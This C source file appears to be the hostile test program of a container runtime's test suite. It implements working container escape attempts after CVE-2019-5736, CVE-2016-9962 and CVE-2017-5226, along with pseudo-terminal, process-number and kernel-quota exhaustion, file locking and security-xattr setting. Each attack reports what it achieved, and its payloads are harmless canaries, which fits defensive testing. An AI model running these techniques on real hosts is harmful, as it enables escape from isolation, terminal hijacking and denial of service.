/* What a hostile program in a container does. Static, so that it runs in any
 * root file system. Each attack prints a line for each thing it achieved. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/aio_abi.h>
#include <linux/filter.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <sched.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <sys/xattr.h>
#include <unistd.h>

static void say(const char *format, ...) __attribute__((format(printf, 1, 2)));
static void say(const char *format, ...) {
    va_list args;
    va_start(args, format);
    vprintf(format, args);
    va_end(args);
    putchar('\n');
    fflush(stdout);
}

/* calls f for each process but this one, up to four levels below a number */
static void each_process(void (*f)(int pid, const char *arg), const char *arg) {
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        int pid = atoi(e->d_name);
        if (pid > 0 && pid != getpid()) f(pid, arg);
    }
    if (d) closedir(d);
}

/* CVE-2019-5736: holds the program of each process and writes to it as soon as
 * nobody executes it any more. */
static int held[512], holds;

static void hold_exe(int pid, const char *arg) {
    char path[64];
    (void)arg;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    struct stat new, old;
    fstat(fd, &new);
    for (int i = 0; i < holds; i++)
        if (!fstat(held[i], &old) && old.st_dev == new.st_dev && old.st_ino == new.st_ino) {
            close(fd);
            return;
        }
    if (holds == sizeof held / sizeof *held) {
        close(fd);
        return;
    }
    char target[256];
    ssize_t n = readlink(path, target, sizeof target - 1);
    say("holds %.*s", n < 0 ? 0 : (int)n, target);
    held[holds++] = fd;
}

static void write_exes(void) {
    say("ready");
    int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
    if (self >= 0) held[holds++] = self;
    for (;;) {
        each_process(hold_exe, NULL);
        for (int i = 0; i < holds; i++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
            int fd = open(path, O_WRONLY | O_CLOEXEC);
            if (fd < 0) continue;
            if (write(fd, "canary", 6) == 6) say("wrote");
            close(fd);
        }
    }
}

/* prints what is at path as seen from a directory that may lie outside */
static void climb(int dir, const char *path, const char *from) {
    char climbing[4096], text[64];
    snprintf(climbing, sizeof climbing, "../../../../../../../../../../../../%s", path);
    int fd = openat(dir, climbing, O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    ssize_t n = read(fd, text, sizeof text);
    if (n > 0) say("reached %.*s from %s", (int)n, text, from);
    close(fd);
}

/* tries each directory that a process has open */
static void climb_from(int pid, const char *path) {
    char dir[64], name[400];
    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
    DIR *d = opendir(dir);
    struct dirent *e;
    while (d && (e = readdir(d))) {
        snprintf(name, sizeof name, "%s/%s", dir, e->d_name);
        int fd = open(name, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0) continue;
        climb(fd, path, "a descriptor");
        close(fd);
    }
    if (d) closedir(d);
    const char *links[] = {"cwd", "root"};
    for (int i = 0; i < 2; i++) {
        snprintf(name, sizeof name, "/proc/%d/%s", pid, links[i]);
        int fd = open(name, O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (fd < 0) continue;
        climb(fd, path, links[i]);
        close(fd);
    }
}

/* CVE-2016-9962: traces and looks into whatever process appears. The tracer is
 * a child, whose end lets the process go. */
static void trace(int pid, const char *path) {
    pid_t child = fork();
    if (child > 0) waitpid(child, NULL, 0);
    if (child) return;
    climb_from(pid, path);
    if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
        char name[64], exe[256];
        snprintf(name, sizeof name, "/proc/%d/exe", pid);
        ssize_t n = readlink(name, exe, sizeof exe);
        if (n > 0) say("traced %.*s", (int)n, exe); /* else it has just ended */
        climb_from(pid, path);
    }
    _exit(0);
}

static int list_descriptors(void) {
    DIR *d = opendir("/proc/self/fd");
    struct dirent *e;
    if (!d) return 1;
    while ((e = readdir(d)))
        if (isdigit(e->d_name[0]) && atoi(e->d_name) != dirfd(d)) say("%s", e->d_name);
    return 0;
}

static int own_capabilities(void) {
    char line[256];
    FILE *f = fopen("/proc/self/status", "r");
    while (f && fgets(line, sizeof line, f))
        if (!strncmp(line, "Cap", 3)) printf("%s", line);
    return f == NULL;
}

static int connect_abstract(const char *name) {
    struct sockaddr_un to = {.sun_family = AF_UNIX};
    int s = socket(AF_UNIX, SOCK_STREAM, 0);
    strncpy(to.sun_path + 1, name, sizeof to.sun_path - 2);
    int refused = connect(s, (struct sockaddr *)&to, (socklen_t)(sizeof to.sun_family + 1 + strlen(name)));
    say(refused ? "refused" : "connected");
    return 0;
}

/* CVE-2017-5226: types into the terminal on stdin, or the controlling one */
static int push(const char *text) {
    int fds[] = {0, 1, 2, open("/dev/tty", O_RDWR)}, done = 1;
    for (int i = 0; i < 4; i++) {
        const char *c;
        for (c = text; *c && !ioctl(fds[i], TIOCSTI, c); c++)
            ;
        if (!*c) {
            say("typed");
            done = 0;
            break;
        }
    }
    for (int i = 0; i < 4; i++) {
        char paste[] = {3}, shift[] = {6};
        if (!ioctl(fds[i], TIOCLINUX, paste) || !ioctl(fds[i], TIOCLINUX, shift)) say("pasted");
    }
    say("tried");
    return done;
}

/* who the terminal belongs to */
static int terminal(void) {
    int tty = open("/dev/tty", O_RDWR);
    say("session %s, terminal %s, stdin %s", getsid(0) > 0 ? "inside" : "outside", tty < 0 ? "none" : "there",
        isatty(0) ? ttyname(0) ? ttyname(0) : "unnamed" : "none");
    return 0;
}

/* the families of sockets that can be had */
static int sockets(void) {
    int types[] = {SOCK_STREAM, SOCK_DGRAM, SOCK_RAW, SOCK_SEQPACKET, SOCK_RDM};
    for (int family = 0; family < 64; family++)
        for (unsigned i = 0; i < sizeof types / sizeof *types; i++) {
            int fd = socket(family, types[i], 0);
            if (fd < 0) continue;
            say("%d", family);
            close(fd);
            break;
        }
    return 0;
}

/* a new namespace by each call that makes one */
static int namespaces(void) {
    const struct {
        const char *name;
        unsigned long flag;
    } kinds[] = {{"user", CLONE_NEWUSER}, {"net", CLONE_NEWNET}, {"mnt", CLONE_NEWNS}, {"pid", CLONE_NEWPID},
                 {"uts", CLONE_NEWUTS}, {"ipc", CLONE_NEWIPC}, {"cgroup", CLONE_NEWCGROUP},
                 {"user+net", CLONE_NEWUSER | CLONE_NEWNET}};
    const char *calls[] = {"unshare", "clone", "clone3"};
    for (unsigned k = 0; k < sizeof kinds / sizeof *kinds; k++)
        for (int call = 0; call < 3; call++) {
            pid_t child = fork();
            if (child == 0) {
                struct clone_args args = {.flags = kinds[k].flag, .exit_signal = SIGCHLD};
                long r = call == 0   ? syscall(SYS_unshare, kinds[k].flag)
                         : call == 1 ? syscall(SYS_clone, kinds[k].flag | SIGCHLD, 0, 0, 0, 0)
                                     : syscall(SYS_clone3, &args, sizeof args);
                _exit(r < 0 ? 1 : 0); /* the new child ends as well */
            }
            int status;
            waitpid(child, &status, 0);
            if (status == 0) say("%s %s", calls[call], kinds[k].name);
        }
    return 0;
}

/* executes a program as root of a user namespace with its own mounts and cgroups */
static int as_root(char **args) {
    char map[32];
    int n = snprintf(map, sizeof map, "0 %d 1", (int)getuid());
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP)) return 1;
    int fd = open("/proc/self/uid_map", O_WRONLY);
    if (fd < 0 || write(fd, map, (size_t)n) != n) return 1;
    execvp(*args, args);
    return 1;
}

/* what a call is answered with: 0, or an error's number */
static void answer(const char *name, long r) { say("%s %d", name, r < 0 ? errno : 0); }

static void wait_for_stdin(void) {
    while (getchar() != EOF)
        ;
}

/* takes one of each thing that the kernel counts for the whole host, or that holds up
 * others: never many, since many filters stop a kernel */
static int quota(const char *dir) {
    struct sock_filter all = BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    struct sock_fprog program = {1, &all};
    aio_context_t context = 0;
    char path[4096];
    static char attribute[1025];
    int ends[2], none = -1, size = 1 << 16;

    answer("aio", syscall(SYS_io_setup, 1, &context));
    if (context) syscall(SYS_io_destroy, context);
    snprintf(path, sizeof path, "%s/leased", dir);
    close(open(path, O_WRONLY | O_CREAT, 0600));
    answer("lease", fcntl(open(path, O_RDONLY), F_SETLEASE, F_RDLCK));
    answer("notify", fcntl(open(dir, O_RDONLY), F_NOTIFY, DN_CREATE));
    answer("attribute", setxattr(path, "user.short", attribute, 1024, 0));
    answer("long-attribute", setxattr(path, "user.long", attribute, 1025, 0));
    answer("attribute-at", syscall(463, AT_FDCWD, path, 0, "user.at", NULL, 0)); /* setxattrat, Linux 6.13 */
    if (socketpair(AF_UNIX, SOCK_STREAM, 0, ends)) return 1;
    for (int i = 0; i < 3; i++)
        answer("socket-filter", setsockopt(ends[0], SOL_SOCKET, SO_ATTACH_FILTER, &program, sizeof program));
    answer("group-filter", setsockopt(ends[0], SOL_SOCKET, SO_ATTACH_REUSEPORT_CBPF, &program, sizeof program));
    answer("socket-program", setsockopt(ends[0], SOL_SOCKET, SO_ATTACH_BPF, &none, sizeof none));
    answer("group-program", setsockopt(ends[0], SOL_SOCKET, SO_ATTACH_REUSEPORT_EBPF, &none, sizeof none));
    answer("buffer", setsockopt(ends[0], SOL_SOCKET, SO_SNDBUF, &size, sizeof size));
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    answer("filter", syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program));
    answer("filter-by-prctl", prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program));
    return 0;
}

/* holds all pseudo-terminals that there are, until stdin ends */
static int terminals(int most) {
    int n = 0;
    while (n < most && open("/dev/ptmx", O_RDWR | O_NOCTTY) >= 0) n++;
    say("%d %d", n, errno);
    wait_for_stdin();
    return 0;
}

/* One process that remains of a session and a group whose leaders have ended. It keeps the numbers
 * of both in use. */
static int remnant(void) {
    int report[2];
    char made = 0;
    if (pipe(report)) return 0;
    pid_t leader = fork();
    if (leader == 0) {
        setsid();
        if (fork()) _exit(0);
        setpgid(0, 0);
        if (fork()) _exit(0);
        if (write(report[1], "1", 1) != 1) _exit(1);
        close(report[0]), close(report[1]);
        wait_for_stdin();
        _exit(0);
    }
    close(report[1]);
    if (leader > 0 && read(report[0], &made, 1) != 1) made = 0;
    close(report[0]);
    return made;
}

/* Uses as many numbers of processes as so many tasks can, until stdin ends. A leader counts as a
 * task for a moment after its end, so near the limit a fork is tried again. */
static int numbers(int tasks) {
    signal(SIGCHLD, SIG_IGN);
    for (int made = 0, tries = 0; made < tasks;) {
        if (remnant()) {
            made++;
            continue;
        }
        if (++tries == 5000) return fprintf(stderr, "only %d of %d made\n", made, tasks), 1;
        usleep(1000);
    }
    say("numbers");
    wait_for_stdin();
    return 0;
}

/* locks files, by both kinds of locks, and changes their times, until stdin ends */
static int lock(char **paths) {
    const struct timespec early[2] = {{1, 0}, {1, 0}};
    for (; *paths; paths++) {
        int fd = open(*paths, O_RDONLY | O_NOCTTY);
        struct flock record = {.l_type = F_RDLCK, .l_whence = SEEK_SET};
        if (flock(fd, LOCK_EX) || fcntl(fd, F_SETLK, &record)) return perror(*paths), 1;
        utimensat(AT_FDCWD, *paths, early, 0);
    }
    say("locked");
    wait_for_stdin();
    return 0;
}

/* attributes that the host's kernel believes */
static int attributes(const char *path) {
    const char *names[] = {"security.capability", "security.ima", "security.evm",
                           "security.apparmor", "security.SMACK64", "security.anything"};
    const char value[20] = {0, 0, 0, 2}; /* as struct vfs_cap_data, without capabilities */
    close(open(path, O_WRONLY | O_CREAT, 0644));
    for (unsigned i = 0; i < sizeof names / sizeof *names; i++)
        answer(names[i], setxattr(path, names[i], value, sizeof value, 0));
    return 0;
}

int reach(char **pids), kill_all(void); /* reach.c */

int main(int argc, char **argv) {
    const char *what = argc > 1 ? argv[1] : "", *arg = argc > 2 ? argv[2] : "";
    if (!strcmp(what, "write-exes")) write_exes();
    if (!strcmp(what, "climb")) return climb_from(getpid(), arg), 0;
    if (!strcmp(what, "trace-all"))
        for (say("ready");;) each_process(trace, arg);
    if (!strcmp(what, "descriptors")) return list_descriptors();
    if (!strcmp(what, "capabilities")) return own_capabilities();
    if (!strcmp(what, "connect")) return connect_abstract(arg);
    if (!strcmp(what, "push")) return push(arg);
    if (!strcmp(what, "terminal")) return terminal();
    if (!strcmp(what, "sockets")) return sockets();
    if (!strcmp(what, "namespaces")) return namespaces();
    if (!strcmp(what, "as-root")) return as_root(argv + 2);
    if (!strcmp(what, "quota")) return quota(arg);
    if (!strcmp(what, "terminals")) return terminals(4096);
    if (!strcmp(what, "numbers")) return numbers(atoi(arg));
    if (!strcmp(what, "lock")) return lock(argv + 2);
    if (!strcmp(what, "attributes")) return attributes(arg);
    if (!strcmp(what, "reach")) return reach(argv + 2);
    if (!strcmp(what, "kill-all")) return kill_all();
    if (!strcmp(what, "wait")) return wait_for_stdin(), 0;
    fprintf(stderr, "attack: what is %s?\n", what);
    return 99;
}
